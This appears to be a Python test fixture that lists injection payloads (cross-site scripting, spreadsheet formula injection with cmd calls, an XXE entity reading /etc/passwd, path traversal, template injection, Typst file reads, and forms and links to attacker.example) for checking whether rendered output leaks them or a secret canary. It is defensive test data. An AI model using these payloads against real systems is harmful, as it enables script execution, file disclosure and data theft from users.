"""List what an attacker may write into a text, a name or a note, and where any of it would show."""

from __future__ import annotations

SECRET = "the-ferrymans-secret"
"""What a file beside the book holds that no page may show."""

RUN = "window.attacked=1"
ATTACKS = {
    "marks of the pages": 'layer-key evidence-table data-card= class="comparison class="contest sd-tab-set',
    "script": f"<script>{RUN}</script>",
    "picture": f'"><img src=x onerror="{RUN}">',
    "attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "single quotes": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    "frame": '<iframe src="javascript:parent.attacked=1" srcdoc="<p>x"></iframe>',
    "drawing": f"<svg onload={RUN}><a href=javascript:{RUN}>x</a></svg>",
    "closing tags": f"--></title></style></textarea></script></span></div><script>{RUN}</script>",
    "form": '<form action="https://attacker.example"><input name=x></form><base href="https://attacker.example">',
    "meta": f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    "raw HTML": f"\n\n```{{raw}} html\n<script>{RUN}</script>\n```\n\n",
    "restructured text": f"\n\n```{{eval-rst}}\n.. raw:: html\n\n   <script>{RUN}</script>\n```\n\n",
    "inclusion": "\n\n```{include} ../secret.txt\n```\n\n:::{literalinclude} /secret.txt\n:::\n\n",
    "download": "{download}`x <../secret.txt>` ![x](../secret.txt) [x](../secret.txt)",
    "role": "{told}`nobody` {glue}`nobody` {quote}`101/dusk` {eval}`1+1` {evidence}`x <101/dusk>`",
    "fence": '\n```\n````\n:::::\n```{article} 101\n```\n{"name": "x", "rows": []}\n',
    "link": f"[x](javascript:{RUN}) <javascript:{RUN}> [x](file:///etc/passwd) ![x](https://attacker.example/x.png)",
    "Markdown": "# x\n\n| x |\n|---|\n**x** _x_ `x` > x\r\r- x\r===\r",
    "address": f"javascript:{RUN}",
    "data address": f"data:text/html,<script>{RUN}</script>",
    "file address": "file:///etc/passwd",
    "address that breaks out": f'https://example.org/" onclick="{RUN}',
    "Typst code": '#import "template.typ": * #read("../../secret.txt") #panic("attacked") #include "x.typ"',
    "Typst string": '"; #panic("attacked"); #" \\"; #panic("attacked"); #" ] #panic("attacked") [ \\u{22}',
    "Typst markup": "$x$ @none <none> *x* _x_ = x ~ \\ // /* `x` #x #{x} #[x] http://attacker.example",
    "equals": '=HYPERLINK("https://attacker.example";"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "entity": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;&lt;script&gt;&#60;script&#62;',
    "CDATA": f"]]><![CDATA[<script>{RUN}</script>]]><?xml-stylesheet href='x'?>",
    "JSON": f'"}}, "@id": "javascript:{RUN}", "x": {{"',
    "path": "../../../../etc/passwd",
    "template": "{{ 7*7 }} {% raw %} ${7*7} {0.__class__} %s %(x)s",
    "mathematics": "$\\frac{ $\\input{x}",
    "controls": "\x00\x08\x1b[2J\x7f\x85\u2028\u2029\u200b\u202e\ufeff",
}
"""Attacks by what they try; where one works, a script sets ``window.attacked``, or Typst panics."""

WORDED = {name: attack for name, attack in ATTACKS.items() if not set("\x00\r\ufeff") & set(attack)}
"""Those that a text as received can hold; the others are refused when it is read."""
